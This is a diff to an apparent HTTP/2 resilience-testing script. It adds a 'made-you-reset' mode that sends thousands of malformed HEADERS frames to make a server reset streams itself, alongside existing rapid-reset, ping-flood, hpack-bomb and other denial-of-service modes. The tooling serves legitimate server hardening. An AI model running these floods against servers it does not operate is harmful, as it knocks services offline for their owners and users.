@@ -10,7 +10,7 @@ prints one line:
   closed MS         the connection closed (or was reset) with no GOAWAY
   served MS         (few-resets) the request after the resets was answered
   open              neither happened within 10 s (the limit did not hold)
-Attacks: rapid-reset, settings-flood, ping-flood, continuation-flood,
+Attacks: rapid-reset, made-you-reset, settings-flood, ping-flood, continuation-flood,
 big-headers, hpack-bomb, trailer-bomb; slow-reader opens 100 streams of large answers,
 reads nothing for 3 s and prints "stalled"; garbage opens 200 connections,
 each sending 40 random frames (random types, flags, streams, payloads, now
@@ -90,6 +90,17 @@ def attack(sock, name, authority):
         time.sleep(3)
         print("stalled")
         sys.exit(0)
+    elif name == "made-you-reset":
+        # Streams the server must reset itself, not the client: a request
+        # with a connection-specific field (a stream error, RFC 9113 8.2.2).
+        batch = []
+        bad = request_block(authority, literal("connection", "close"))
+        for i in range(5000):
+            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, bad))
+            if len(batch) >= 200:
+                send(b"".join(batch))
+                batch = []
+        send(b"".join(batch))
     elif name == "settings-flood":
         send(frame(SETTINGS, 0, 0) * 20000)
     elif name == "ping-flood":
@@ -121,7 +132,7 @@ def attack(sock, name, authority):
         block = literal("x-bomb", "b" * 4000, indexed=True) + bytes([0x80 | 62]) * 2000
         send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
     else:
-        raise SystemExit("unknown attack %r: want rapid-reset, few-resets, slow-reader, garbage,"
+        raise SystemExit("unknown attack %r: want rapid-reset, made-you-reset, few-resets, slow-reader, garbage,"
                          " settings-flood, ping-flood, continuation-flood, big-headers,"
                          " hpack-bomb or trailer-bomb" % name)
 
